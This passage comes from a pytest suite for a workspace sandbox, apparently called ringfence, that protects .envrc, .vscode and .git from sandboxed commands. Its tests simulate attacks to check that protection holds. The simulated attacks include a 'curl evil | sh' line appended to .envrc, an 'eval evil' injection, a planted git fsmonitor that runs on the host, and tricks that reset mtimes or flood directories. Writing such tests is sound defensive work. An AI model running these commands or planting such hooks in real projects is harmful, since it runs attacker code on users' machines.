        _git(world, "status", cwd=repo, check=False)
        assert marker.exists(), f"control: {attack!r}"
        marker.unlink()
        _git(world, "-c", "protocol.file.allow=always", "submodule", "update", "--init", "-q",
             "--force", cwd=repo, check=False)
        (repo / "libs" / "foo" / ".git").write_text("gitdir: ../../.git/modules/libs/foo\n")
        _git(world, "config", "-f", str(repo / ".git" / "modules" / "libs" / "foo" / "config"),
             "--unset", "core.fsmonitor", cwd=repo, check=False)


# ---------------------------------------------------------------------------------------------
# Placeholders: left behind, and shared between runs.

def test_no_placeholders_left_behind(world: World) -> None:
    """Missing protected names are covered by placeholders while a command runs; afterwards the
    workspace must look exactly as before (``git status`` clean, nothing new in ``.git``)."""
    world.git_init()
    before = _tree(world.workspace)
    for script in ("true", "false", "echo x > .envrc", "git status", "ls -la .git"):
        world.sandbox(script)
    assert _tree(world.workspace) == before
    assert _git(world, "status", "--porcelain", "--ignored", cwd=world.workspace).stdout == ""


def test_no_placeholders_left_behind_without_repository(world: World) -> None:
    """The same in a workspace that is not a repository (``.git`` itself is a placeholder)."""
    (world.workspace / "main.py").write_text("print('hi')\n")
    for script in ("true", "git init", "echo x > .vscode"):
        world.sandbox(script)
    assert os.listdir(world.workspace) == ["main.py"]


def test_concurrent_runs_keep_protection(world: World) -> None:
    """A long run holds placeholders; a short run in the same workspace starts and finishes
    meanwhile. Its clean-up must not remove what the long run relies on: afterwards the long
    run still cannot create ``.envrc``."""
    world.git_init()
    ws = world.workspace
    long_run = _start(world, "touch ready; " + WAIT.format(go="go") +
                      "; rm -f ready go; echo 'eval evil' > .envrc && echo ESCAPED")
    try:
        _wait_for(ws / "ready")
        short = world.sandbox("true")
        assert short.returncode == 0, short.stderr
        (ws / "go").touch()
        out, err = long_run.communicate(timeout=30)
    finally:
        long_run.kill()
        long_run.wait()
    assert "ESCAPED" not in out, err
    assert not (ws / ".envrc").exists()
    assert _git(world, "status", "--porcelain", cwd=ws).stdout == ""


def test_run_started_during_another_keeps_protection(world: World) -> None:
    """The reverse order: a second (long) run starts while the first still holds placeholders;
    the first finishes and cleans up; the long run then tries to create ``.envrc`` and
    ``.vscode/tasks.json``."""
    world.git_init()
    ws = world.workspace
    first = _start(world, "touch first-ready; " + WAIT.format(go="first-go"))
    second = None
    try:
        _wait_for(ws / "first-ready")
        second = _start(world, "touch second-ready; " + WAIT.format(go="second-go") +
                        "; echo 'eval evil' > .envrc && echo ESCAPED; "
                        "mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo ESCAPED")
        _wait_for(ws / "second-ready")
        (ws / "first-go").touch()
        first.communicate(timeout=30)
        (ws / "second-go").touch()
        out, err = second.communicate(timeout=30)
    finally:
        for proc in (first, second):
            if proc is not None:
                proc.kill()
                proc.wait()
    assert "ESCAPED" not in out, err
    assert not (ws / ".envrc").exists()
    assert not (ws / ".vscode").is_dir()


def test_killed_run_placeholders_removed_by_next_run(world: World) -> None:
    """ringfence is killed (SIGKILL) while its command runs: its placeholders stay on the host.
    The docs promise the next run removes them; after it the workspace must be clean."""
    world.git_init()
    ws = world.workspace
    before = _tree(ws)
    proc = _start(world, "touch ready; sleep 30")
    try:
        _wait_for(ws / "ready")
        (ws / "ready").unlink()
    finally:
        proc.kill()
        proc.wait()
    time.sleep(0.2)  # bwrap and the command die with their parent
    assert world.sandbox("true").returncode == 0
    assert _tree(ws) == before


def test_memo_not_fooled_by_resetting_mtime(world: World) -> None:
    """Attack on the scan memo: create ``sub/.vscode`` in one run, then set ``sub``'s
    modification time back so a cache keyed on mtime would still say "nothing protected in
    sub", leaving the new ``.vscode`` writable in later runs. The memo is keyed on ctime,
    which ``touch -d`` cannot set back: the next run protects ``sub/.vscode``."""
    sub = world.workspace / "sub"
    sub.mkdir()
    time.sleep(2.2)  # older than the memo's racy window, so the first run remembers it
    assert world.sandbox("true").returncode == 0  # the memo now says: nothing in sub
    mtime = sub.stat().st_mtime_ns
    stamp = f"@{mtime // 10**9}.{mtime % 10**9:09d}"
    plant = f"mkdir sub/.vscode && echo '{{}}' > sub/.vscode/tasks.json && touch -d {stamp} sub"
    assert world.sandbox(plant).returncode == 0  # creating it below the top is allowed
    assert sub.stat().st_mtime_ns == mtime
    edit = "echo evil > sub/.vscode/tasks.json"
    assert world.sandbox(edit).returncode != 0
    assert (sub / ".vscode" / "tasks.json").read_text() == "{}\n"
    assert world.unsandboxed(edit).returncode == 0


def test_scan_bound_cannot_push_out_a_known_protected_path(world: World) -> None:
    """Attack on the scan's bound: ``pkg/.envrc`` exists and is protected. The command creates
    64 directories whose names sort before ``pkg``, so that the next run's look one level down
    (the first 64 subdirectories by name) never reaches ``pkg``, and then edits ``.envrc``
    there. A subdirectory that held a protected name is looked at first."""
    from ringfence.plan import MAX_SUBDIRS

    pkg = world.workspace / "pkg"
    pkg.mkdir()
    (pkg / ".envrc").write_text("echo user\n")
    edit = "echo 'curl evil | sh' >> pkg/.envrc"
    assert world.sandbox(edit).returncode != 0
    flood = f"for i in $(seq 10 {10 + MAX_SUBDIRS - 1}); do mkdir $i; done"
    assert world.sandbox(flood).returncode == 0
    assert world.sandbox(edit).returncode != 0
    assert (pkg / ".envrc").read_text() == "echo user\n"
    assert world.unsandboxed(edit).returncode == 0  # the control


# ---------------------------------------------------------------------------------------------
# Directory placeholders come from a pool of spare directories in the state directory.

def _pool(world: World) -> Path:
    return Path(world.env["XDG_STATE_HOME"]) / "ringfence" / "placeholders" / "pool"


def test_placeholders_return_to_the_pool_and_are_reused(world: World) -> None:
    """After a run its directory placeholders are spares in the pool (not in the workspace);
    the next run moves the same directories back in (same inodes) and protects as before."""
    assert world.sandbox("true").returncode == 0
    spares = {p.stat().st_ino for p in _pool(world).iterdir()}
    assert len(spares) >= 8
    assert sorted(os.listdir(world.workspace)) == []
    ws = world.workspace
    proc = _start(world, "touch ready; " + WAIT.format(go="go") +
                  "; rm -f ready go; mkdir -p .vscode/x || echo REFUSED")
    try:
        _wait_for(ws / "ready")
        inodes = {(ws / name).stat().st_ino for name in (".vscode", ".claude", ".envrc")}
        modes = {stat.S_IMODE((ws / name).stat().st_mode) for name in (".vscode", ".envrc")}
        (ws / "go").touch()
        out, err = proc.communicate(timeout=30)
    finally:
        proc.kill()
        proc.wait()
    assert inodes <= spares, (inodes, spares)
    assert modes == {0o755}  # (read-only inside the sandbox by its mount; see the pool)
    assert "REFUSED" in out, err
    assert sorted(os.listdir(ws)) == []


def test_what_the_host_puts_in_a_placeholder_stays(world: World) -> None:
    """While a command runs, a tool on the host (an editor, the agent itself) creates
    ``.vscode/settings.json``: it goes into the placeholder, which the command still sees as
    an empty read-only directory, and the run leaves it where it is when it ends (not back in
    the pool)."""
    ws = world.workspace
    proc = _start(world, "touch ready; " + WAIT.format(go="go") +
                  "; rm -f ready go; ls -A .vscode; echo x > .vscode/in || echo REFUSED")
    try:
        _wait_for(ws / "ready")
        (ws / ".vscode" / "settings.json").write_text("{}\n")
        (ws / "go").touch()
        out, err = proc.communicate(timeout=30)
    finally:
        proc.kill()
        proc.wait()
    assert "settings.json" not in out and "REFUSED" in out, out + err
    assert (ws / ".vscode" / "settings.json").read_text() == "{}\n"
    assert not (ws / ".vscode" / "in").exists()
    assert not any((_pool(world) / spare / "settings.json").exists()
                   for spare in os.listdir(_pool(world)))


def test_planted_spare_is_never_a_placeholder(world: World) -> None:
    """Attack on the pool: a spare directory that is not empty (here, a planted hook script)
    must never be moved into the workspace as a placeholder, where the host would see it as
    ``.vscode`` or ``.git`` with content."""
    assert world.sandbox("true").returncode == 0
    for spare in _pool(world).iterdir():
        (spare / "tasks.json").write_text('{"evil": 1}\n')
    result = world.sandbox("true")
    assert result.returncode == 0, result.stderr
    assert sorted(os.listdir(world.workspace)) == []
    planted = [s for s in _pool(world).iterdir() if (s / "tasks.json").exists()]
    assert len(planted) >= 8  # left where they were, untouched


def test_release_does_not_follow_a_swapped_placeholder(world: World) -> None:
    """A host process replaces a placeholder with a symlink to a directory elsewhere while the
    command runs. Releasing the placeholder must not chmod, move or empty that directory (it
    opens the name with O_NOFOLLOW and checks it is an empty directory first)."""
    ws = world.workspace
    target = world.outside / "private"
    target.mkdir(mode=0o700)
    proc = _start(world, "touch ready; " + WAIT.format(go="go"))
    try:
        _wait_for(ws / "ready")
        (ws / ".vscode").rmdir()
        (ws / ".vscode").symlink_to(target)
        (ws / "go").touch()
        proc.communicate(timeout=30)
    finally:
        proc.kill()
        proc.wait()
    assert (ws / ".vscode").is_symlink()
    assert target.is_dir() and stat.S_IMODE(target.stat().st_mode) == 0o700
    assert not any(p.is_symlink() for p in _pool(world).iterdir())


def test_git_diff_head_is_not_ambiguous(world: World) -> None:
    """Found in review: the guard against a bare repository at the top was a placeholder named
    ``HEAD``, so inside every run in a repository (and on the host while one ran) ``git diff
    HEAD`` and ``git log HEAD`` failed: "ambiguous argument 'HEAD': both revision and
    filename". The guard is now ``objects``, which no revision is named."""
    world.git_init()
    for cmd in ("git diff HEAD --stat", "git log HEAD --oneline"):
        result = world.sandbox(cmd)
        assert result.returncode == 0, result.stderr


@pytest.mark.parametrize("existing", ["objects", "objects refs"])
def test_bare_repository_at_the_top_with_a_project_objects_dir(world: World,
                                                               existing: str) -> None:
    """The same attack where the project has its own ``objects/`` (and ``refs/``) at the top:
    the guard is then ``refs`` (or ``HEAD``)."""
    world.git_init()
    for name in existing.split():
        (world.workspace / name).mkdir()
        (world.workspace / name / "keep").write_text("x\n")
    marker = world.outside / "pwned"
    script = _bare_repository_attack(world, marker, break_dotgit=True)
    world.sandbox(script)
    _git(world, "status", cwd=world.workspace, check=False)
    assert not marker.exists(), "the host's git status ran the planted fsmonitor"
